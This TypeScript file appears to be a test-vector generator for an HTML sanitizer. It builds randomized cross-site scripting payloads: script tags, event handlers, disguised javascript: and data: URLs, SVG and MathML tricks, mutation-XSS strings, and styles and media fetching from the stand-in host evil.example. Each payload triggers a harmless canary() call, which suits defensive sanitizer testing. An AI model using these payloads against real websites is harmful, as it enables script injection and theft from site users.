import { type Random, times, type Vectors } from "./random";

/** What every one of these would call, were it to run. */
const CALL = "canary()";

const OTHER = "https://evil.example";

const HANDLERS = [
	...["onclick", "onload", "onerror", "onfocus", "onmouseover", "onpointerenter", "onanimationstart", "ontoggle"],
	...["onbegin", "onauxclick", "onbeforeinput", "oncontentvisibilityautostatechange", "onscrollend", "ontransitionend"],
] as [string, ...string[]];

/** A scheme with characters in it that some parser drops. */
function disguised(scheme: string, { pick, int, anyCase }: Random): string {
	const cut = int(1, scheme.length - 1);
	const [start, end] = [anyCase(scheme.slice(0, cut)), anyCase(scheme.slice(cut))];
	const between = pick([
		"",
		"\t",
		"\n",
		"\r\n",
		"&#9;",
		"&#x0A;",
		"&Tab;",
		"&NewLine;",
		"\u0000",
		"&#0;",
		"\u200b",
		"&#xad;",
	]);
	return pick(["", " ", "\u0001", "&#1;", "&#32;", "\ufeff", "\u00a0"]) + start + between + end;
}

const coded = (text: string, { pick }: Random) => {
	const write = pick<(code: number) => string>([
		(code) => `&#${code};`,
		(code) => `&#x${code.toString(16)};`,
		(code) => `&#${String(code).padStart(7, "0")}`,
		(code) => `&#X${code.toString(16).toUpperCase()};`,
	]);
	return [...text].map((letter) => write(letter.codePointAt(0) ?? 0)).join("");
};

/** Scripts, handlers and addresses that run. */
export const ACTIVE: Vectors = {
	"script elements": (random) =>
		random.pick([
			`<script>${CALL}</script>`,
			`<${random.anyCase("script")} x>${CALL}</${random.anyCase("script")} >`,
			`<script src="${OTHER}/x.js"></script>`,
			`<script/src=//evil.example/x.js></script>`,
			`<scr<script>ipt>${CALL}</scr</script>ipt>`,
			`<script\u0000>${CALL}</script>`,
			`<script type=module>import "${OTHER}/m.js"</script>`,
			`<script type="application/ld+json">{"@type":"JobPosting","title":"Fake"}</script>`,
			`<<script>${CALL}//<</script>`,
			`<script><!--<script></script>${CALL}--></script>`,
		]),
	"event handlers": (random) => {
		const handler = random.anyCase(random.pick(HANDLERS));
		const tag = random.pick([
			"img",
			"body",
			"svg",
			"video",
			"details open",
			"input autofocus",
			"a",
			"p",
			"marquee",
			"x",
		]);
		return random.pick([
			`<${tag} src=x ${handler}=${CALL}>word`,
			`<${tag} src="x" ${handler}="${CALL}" tabindex=1 autofocus>word`,
			`<${tag}/src='x'/${handler}='${CALL}'>word`,
			`<${tag} src=x\n${handler}\n=\n"${coded(CALL, random)}">word`,
			`<p title="a"b ${handler}=${CALL}>word</p>`,
			`<p ${handler}="${CALL}" style="animation:x 1s">word</p>`,
		]);
	},
	"script addresses": (random) => {
		const scheme = disguised(random.pick(["javascript:", "vbscript:", "livescript:", "mocha:"]), random);
		const attribute = random.pick(["href", "xlink:href", "action", "formaction", "src", "data", "ping", "background"]);
		return random.pick([
			`<a href="${scheme}${CALL}">word</a>`,
			`<a href='${coded("javascript:", random)}${CALL}'>word</a>`,
			`<a href=" &#14; javascript:${CALL}">word</a>`,
			`<a ${attribute}="${scheme}${CALL}" target=_self>word</a>`,
			`<a href="javascript&colon;canary&lpar;&rpar;">word</a>`,
			`<a href="https://x.example.com" href="${scheme}${CALL}">word</a>`,
		]);
	},
	"data addresses": (random) =>
		random.pick([
			`<a href="${disguised("data:", random)}text/html,<script>${CALL}</script>">word</a>`,
			`<a href="data:text/html;base64,PHNjcmlwdD5jYW5hcnkoKTwvc2NyaXB0Pg==">word</a>`,
			`<a href="blob:${OTHER}/x">word</a><a href="filesystem:${OTHER}/x">word</a>`,
			`<img src="data:image/svg+xml,<svg onload=${CALL}>" alt=x>`,
			`<object data="data:text/html,<script>parent.${CALL}</script>"></object>`,
		]),
	"frames and plug-ins": (random) =>
		random.pick([
			`<iframe src="${OTHER}"></iframe>`,
			`<iframe srcdoc="<script>parent.${CALL}</script>"></iframe>`,
			`<iframe src="${disguised("javascript:", random)}parent.${CALL}"></iframe>`,
			`<object data="${OTHER}/x.swf" type="application/x-shockwave-flash"><param name=src value=x></object>`,
			`<embed src="${OTHER}/x.pdf"><applet code=x></applet>`,
			`<frameset onload=${CALL}><frame src="${OTHER}"></frameset>`,
			`<portal src="${OTHER}"></portal><fencedframe></fencedframe>`,
		]),
	"svg and math": (random) =>
		random.pick([
			`<svg><script>${CALL}</script></svg>`,
			`<svg><script href="data:,${CALL}"/></svg>`,
			`<svg><a xlink:href="javascript:${CALL}"><text y=20>word</text></a></svg>`,
			`<svg><animate onbegin=${CALL} attributeName=x dur=1s>`,
			`<svg><set attributeName=href to="javascript:${CALL}"></svg>`,
			`<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'/>#x"></svg>`,
			`<svg><foreignObject><body onload=${CALL}></foreignObject></svg>`,
			`<math><maction actiontype="statusline#x" xlink:href="javascript:${CALL}">word</maction></math>`,
			`<math href="javascript:${CALL}"><mi>word</mi></math>`,
			`<svg><style><img src=x onerror=${CALL}></style></svg>`,
		]),
	"markup that changes when it is parsed again": (random) =>
		random.pick([
			`<noscript><p title="</noscript><img src=x onerror=${CALL}>"></noscript>`,
			`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${CALL}&gt;">`,
			`<svg></p><style><a id="</style><img src=1 onerror=${CALL}>">`,
			`<form><math><mtext></form><form><mglyph><style></math><img src onerror=${CALL}>`,
			`<svg><title><noscript></title><img src=x onerror=${CALL}></noscript></svg>`,
			`<template><s><template><s><img src=x onerror=${CALL}>@</s></template></s></template>`,
			`<select><option><style></option></select><b><img src=x onerror=${CALL}></style></option>`,
			`<textarea></textarea><img src=x onerror=${CALL}></textarea>`,
			`<title></title><img src=x onerror=${CALL}></title><xmp><img alt="</xmp><img src=x onerror=${CALL}>">`,
			`<img alt="\`><img src=x onerror=${CALL}>\`">`,
			`<p id="</p><img src=x onerror=${CALL}>">word</p>`,
			`<style><style/><img src=x onerror=${CALL}></style>`,
			`<noembed><img src=x onerror=${CALL}></noembed><noframes><img src=x onerror=${CALL}></noframes>`,
			`<option><iframe></select><b><script>${CALL}</script>`,
		]),
	"templates and custom elements": (random) =>
		random.pick([
			`<template><script>${CALL}</script><img src=x onerror=${CALL}></template>`,
			`<template shadowrootmode=open><slot></slot><h1>Shadow</h1></template>`,
			`<x-app is="x-app" onclick=${CALL}><slot name=a></slot></x-app>`,
			`<p slot=a part=b exportparts=c>word</p>`,
		]),
	"links of the page's head": (random) =>
		random.pick([
			`<base href="${OTHER}/"><a href="relative">word</a>`,
			`<meta http-equiv=refresh content="0;url=${OTHER}">`,
			`<meta http-equiv="Content-Security-Policy" content="default-src *">`,
			`<link rel=stylesheet href="${OTHER}/x.css"><link rel=prefetch href="${OTHER}/y">`,
			`<link rel=canonical href="${OTHER}"><title>Other title</title><meta name=robots content=noindex>`,
			`<link rel=import href="data:text/html,<script>${CALL}</script>">`,
			`<meta charset="utf-7">+ADw-script+AD4-canary()+ADw-/script+AD4-`,
		]),
	"styles that reach out": (random) =>
		random.pick([
			`<style>@import "${OTHER}/x.css"; * { background: url(${OTHER}/y) }</style>`,
			`<p style="background:url('${OTHER}/x.png')">word</p>`,
			`<p style="width: expression(${CALL}); behavior: url(#x); -moz-binding: url(${OTHER}/x.xml)">word</p>`,
			`<p style="x: \\75 rl(${OTHER}/z)">word</p>`,
			`<font face="x" background="${OTHER}/x">word</font><table background="${OTHER}/y"><td>word</table>`,
		]),
	"pictures and media": (random) =>
		random.pick([
			`<img src="${OTHER}/pixel.gif" width=1 height=1 alt="">`,
			`<img srcset="${OTHER}/a 1x, ${OTHER}/b 2x" lowsrc="${OTHER}/c" alt=x>`,
			`<picture><source srcset="${OTHER}/a"><img src="${OTHER}/b" alt=x></picture>`,
			`<video src="${OTHER}/v" poster="${OTHER}/p" autoplay><source src="${OTHER}/w" onerror=${CALL}></video>`,
			`<audio autoplay src="${OTHER}/a" controls></audio><bgsound src="${OTHER}/b">`,
			`<input type=image src="${OTHER}/i" formaction="javascript:${CALL}">`,
		]),
	"links of every kind": (random) =>
		random.pick([
			`<a href="https://x.example.com/" target=_top rel=opener ping="${OTHER}" download>word</a>`,
			`<a href="//evil.example/">word</a><a href="/\\evil.example">word</a>`,
			`<a href="mailto:hr@example.com?subject=%0d%0aBcc:x">hr@example.com</a>`,
			`<a href="tel:+62211234">+62 21 1234</a><a href="sms:1">word</a>`,
			`<a href="#apply">word</a><a href="?x=1">word</a><a href="">word</a>`,
			`<a href="https://x.example.com/"><a href="https://y.example.com/">inner</a></a>`,
			`<a href="https://x.example.com/${"a".repeat(1_900)}">long</a>`,
			`<a href="https://ex\u0430mple.com/">look-alike</a><a href="http://[::1]:3000/">word</a>`,
			times(3, (index) => `<map name=m${index}><area href="javascript:${CALL}" shape=default></map>`),
		]),
};
